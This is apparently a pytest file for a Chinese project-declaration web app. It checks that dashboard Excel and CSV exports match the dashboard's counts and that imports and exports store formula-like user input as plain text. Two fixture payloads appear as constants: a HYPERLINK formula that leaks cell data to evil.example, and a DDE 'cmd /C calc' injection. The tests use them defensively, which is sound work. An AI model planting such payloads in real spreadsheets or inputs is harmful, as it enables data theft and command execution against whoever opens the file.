"""Exports a clerk can hand upward: the dashboard's export holds the dashboard's projects
and says which, with widths, a frozen header, a filter and totals; text typed by users is
never a formula (issue 17 finding 1), in Excel or CSV, and imports keep it as text and say
so."""

import csv
import io
import re
import zipfile
from html import unescape

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from app.demo import DEMO_PASSWORD, seed
from app.extensions import db
from app.jobs import imports as import_jobs
from app.models import Job, Project
from tests.helpers import Cast, import_row, import_workbook, project_payload
from tests.web import csrf_token, signed_in

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def cast(clean_app):
    cast = Cast(clean_app)
    cast.enterprise("ent")
    cast.agency("sz_miit", "miit", "320500")
    return cast


def declare(client, cast, name, i, *steps):
    """A project of `ent` submitted and then taken through `steps` by the agency."""
    enterprise, miit = cast.api(client, "ent"), cast.api(client, "sz_miit")
    project = enterprise.post("/projects", project_payload(
        name=name, project_code=f"2603-320506-07-02-{i:06d}")).json
    version = project["version"]
    if steps != ("draft",):
        version = enterprise.fire(project["id"], "submit", version).json["version"]
        for trigger in steps:
            comment = "请补充联系人" if trigger in ("return", "reject") else None
            response = miit.fire(project["id"], trigger, version, comment=comment)
            assert response.status_code == 200, response.json
            version = response.json["version"]
    return project["id"]


def export_link(html: str, kind: str) -> str:
    match = re.search(rf'href="(/projects/export\.{kind}\?[^"]*)"', html)
    assert match, f"no {kind} export link"
    return unescape(match.group(1))


def test_the_dashboards_export_holds_the_dashboards_projects(clean_app, cast):
    client = clean_app.test_client()
    for i, steps in enumerate([(), (), ("accept",), ("accept",), ("return",), ("reject",),
                               ("draft",)]):
        declare(client, cast, f"苏州改造项目{i}", i, *steps)
    agency = signed_in(clean_app, "sz_miit")
    page = agency.get("/dashboard").get_data(as_text=True)
    shown = int(re.search(r'<span class="tile__value">(\d+)</span>', page).group(1))
    assert shown == 4  # declared and accepted; not the returned, rejected or draft ones

    response = agency.get(export_link(page, "xlsx"))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    covers, header, body, totals = rows[0], rows[1], rows[2:-1], rows[-1]
    assert len(body) == shown
    assert "苏州市" in covers[0] and "已申报" in covers[0] and "退回" not in covers[0]
    assert header[0] == "项目代码" and header[1] == "项目名称"
    assert {r[11] for r in body} == {"已申报", "承诺备案"}
    assert totals[0] == "合计" and totals[1] == shown
    assert totals[7] == sum(r[7] for r in body)
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == f"A2:Q{2 + shown}"
    assert sheet.column_dimensions["B"].width >= 30  # the name is not cut to 8 characters

    text = agency.get(export_link(page, "csv")).data.decode("utf-8-sig")
    assert len(list(csv.reader(io.StringIO(text)))) == 1 + shown


def test_user_text_is_never_a_formula_in_the_exports(clean_app, cast):
    client = clean_app.test_client()
    declare(client, cast, HYPERLINK, 1)
    declare(client, cast, CALC, 2)
    agency = signed_in(clean_app, "sz_miit")

    data = agency.get("/projects/export.xlsx").data
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    names = {sheet.cell(row, 2).value: sheet.cell(row, 2).data_type
             for row in range(3, sheet.max_row)}
    assert names == {HYPERLINK: "s", CALC: "s"}

    rows = list(csv.reader(io.StringIO(
        agency.get("/projects/export.csv").data.decode("utf-8-sig"))))
    assert {r[1] for r in rows[1:]} == {"'" + HYPERLINK, "'" + CALC}


def test_an_import_keeps_formula_like_names_as_text_and_says_so(clean_app, cast):
    with clean_app.app_context():
        code = cast.user("ent").organization.credit_code
    # openpyxl writes a value starting with = as a formula cell, as Excel would keep it
    data = import_workbook([import_row(code, 1, name=HYPERLINK),
                            import_row(code, 2, name="普通项目")])
    with clean_app.app_context():
        job = import_jobs.start_import(cast.user("sz_miit"), data, "公式.xlsx")
        job_id = job.public_id
        db.session.expunge_all()
        job = db.session.scalar(select(Job).where(Job.public_id == job_id))
        assert (job.status, job.created) == ("done", 2)
        names = set(db.session.scalars(select(Project.name)))
    assert names == {HYPERLINK, "普通项目"}
    assert [(n["row"], n["column"]) for n in job.notes] == [(2, "项目名称")]
    page = signed_in(clean_app, "sz_miit").get(f"/imports/{job_id}").get_data(as_text=True)
    assert "按文本保存" in page and "项目名称" in page


def test_luoyangs_export_has_the_rows_its_dashboard_counts(clean_app):
    """The probe's case: the demo's Luoyang export held 21 rows (rejected and returned ones
    too) against the dashboard's 16."""
    with clean_app.app_context():
        seed()
        db.session.remove()
    client = clean_app.test_client()
    client.post("/login", data={"username": "luoyang-ndrc", "password": DEMO_PASSWORD,
                                "csrf_token": csrf_token(client)})
    page = client.get("/dashboard").get_data(as_text=True)
    shown = int(re.search(r'<span class="tile__value">(\d+)</span>', page).group(1))
    rows = list(load_workbook(io.BytesIO(client.get(export_link(page, "xlsx")).data))
                .worksheets[0].iter_rows(values_only=True))
    assert len(rows) - 3 == shown  # less what it covers, the header and the totals
    assert {r[11] for r in rows[2:-1]}.isdisjoint({"退回补正", "不予入库", "已撤回", "草稿"})


def test_an_imported_amount_written_as_a_formula_is_refused_with_a_reason(clean_app, cast):
    with clean_app.app_context():
        code = cast.user("ent").organization.credit_code
        job = import_jobs.start_import(cast.user("sz_miit"), import_workbook(
            [import_row(code, 1, total_investment="=4000+1000")]), "公式金额.xlsx")
        job_id = job.public_id
        db.session.expunge_all()
        job = db.session.scalar(select(Job).where(Job.public_id == job_id))
    assert job.status == "failed"
    assert [(e["column"], e["reason"]) for e in job.errors] == [
        ("总投资", "公式不予读取：请直接填写金额。")]
